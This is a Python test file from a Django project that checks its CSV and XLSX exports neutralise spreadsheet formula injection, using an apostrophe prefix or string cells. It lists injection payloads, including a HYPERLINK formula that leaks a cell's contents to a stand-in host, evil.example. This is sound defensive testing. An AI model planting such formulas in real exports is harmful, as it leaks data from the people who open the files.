"""Formula injection: names typed by people never reach a spreadsheet as live formulas.

The one writer of CSV and XLSX (core.spreadsheets), and the import template. Each export is
tested beside its module (outcomes/tests/test_spreadsheet_injection.py,
referrals/tests/test_research_injection.py): downloaded with a programme or organisation called
like a formula, read back as a spreadsheet program would (the csv module, openpyxl), and
checked to hold inert text: in CSV with the apostrophe that tells a spreadsheet "this is text",
in XLSX as a string cell (never a formula cell). Numbers and dates stay numbers and dates."""

import csv
import io
from datetime import date, datetime

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from legami.core.spreadsheets import append_row, csv_lines, csv_text, csv_writer
from legami.network import services as network

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A2,"Apri")'
SUM = "=1+1"
ATTACKS = [
    HYPERLINK,
    SUM,
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",  # full-width "="
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff201+1",
]


# --- the helper ---------------------------------------------------------------------------------
@pytest.mark.parametrize("text", ATTACKS)
def test_csv_text_starting_a_formula_gets_an_apostrophe(text):
    assert csv_text(text) == "'" + text


@pytest.mark.parametrize("value", [-3, -2.5, 0, 7, True, None, date(2026, 1, 2)])
def test_csv_numbers_dates_and_empty_cells_are_written_as_they_are(value):
    assert csv_text(value) is value
    (row,) = csv.reader(csv_lines([[value, "x"]]))
    assert row == ["" if value is None else str(value), "x"]


@pytest.mark.parametrize("text", ["Comunità resilienti", "Sant'Angelo", "1+1", "a=b", "'="])
def test_ordinary_text_is_left_alone(text):
    assert csv_text(text) == text


def test_the_writer_has_the_csv_writer_interface():
    output = io.StringIO()
    writer = csv_writer(output, delimiter=";")
    writer.writerow(["Nome", SUM, -4])
    writer.writerows([[HYPERLINK, 5]])
    rows = list(csv.reader(io.StringIO(output.getvalue()), delimiter=";"))
    assert rows == [["Nome", "'" + SUM, "-4"], ["'" + HYPERLINK, "5"]]


@pytest.mark.parametrize("write_only", [False, True])
def test_xlsx_text_is_a_string_cell_and_numbers_and_dates_keep_their_type(write_only):
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("Dati") if write_only else book.active
    when = datetime(2026, 3, 4, 10, 30)
    append_row(sheet, [*ATTACKS, -3, 2.5, when, None, "nome\x01con controllo"])
    append_row(sheet)
    append_row(sheet, ["dopo una riga vuota"])
    output = io.BytesIO()
    book.save(output)
    read = load_workbook(io.BytesIO(output.getvalue())).worksheets[0]
    cells = list(read.iter_rows())[0]
    # XML reads a carriage return back as a line feed; the text is otherwise kept exactly.
    assert [c.value for c in cells[: len(ATTACKS)]] == [a.replace("\r", "\n") for a in ATTACKS]
    assert all(c.data_type == "s" for c in cells[: len(ATTACKS)])
    numbers = cells[len(ATTACKS) :]
    assert numbers[0].value == -3 and numbers[0].data_type == "n"
    assert numbers[1].value == 2.5
    assert numbers[2].value == when and numbers[2].is_date
    assert numbers[3].value is None
    assert numbers[4].value == "nomecon controllo"
    assert read.cell(row=3, column=1).value == "dopo una riga vuota"
    assert not formulas(read)


def formulas(sheet) -> list:
    """The cells of `sheet` that a spreadsheet would compute."""
    return [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


# --- the import template -----------------------------------------------------------------------
def test_import_template_lists_the_organisation_name_as_a_string(client, world, personas):
    network.organisation_create(
        by=personas["superuser"],
        name=SUM,
        sector="third_sector",
        comune=world["arcidosso"],
    )
    client.force_login(personas["superuser"])
    response = client.get(reverse("directory:import_template"))
    book = load_workbook(io.BytesIO(response.content))
    for sheet in book.worksheets:
        assert not formulas(sheet), sheet.title
    instructions = book["Istruzioni"]
    (cell,) = [c for row in instructions.iter_rows() for c in row if c.value == SUM]
    assert cell.data_type == "s"


def test_import_csv_template_is_written_through_the_safe_writer(client, world, personas):
    from legami.directory.spreadsheet.columns import COLUMNS

    client.force_login(personas["superuser"])
    response = client.get(reverse("directory:import_template"), {"format": "csv"})
    (row,) = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert row == [column.header for column in COLUMNS]


def test_every_csv_and_xlsx_writer_of_the_project_goes_through_core_spreadsheets():
    """A new export written with csv.writer or openpyxl directly would bring formula injection
    back: the source says which writers exist."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    helper = root / "core" / "spreadsheets.py"
    direct, unguarded = [], []
    for path in root.rglob("*.py"):
        if "tests" in path.parts or "migrations" in path.parts or path == helper:
            continue
        source = path.read_text(encoding="utf-8")
        if "csv.writer(" in source or "csv.DictWriter(" in source:
            direct.append(str(path.relative_to(root)))
        if "Workbook(" in source and "legami.core.spreadsheets" not in source:
            unguarded.append(str(path.relative_to(root)))
    assert not direct and not unguarded, (direct, unguarded)
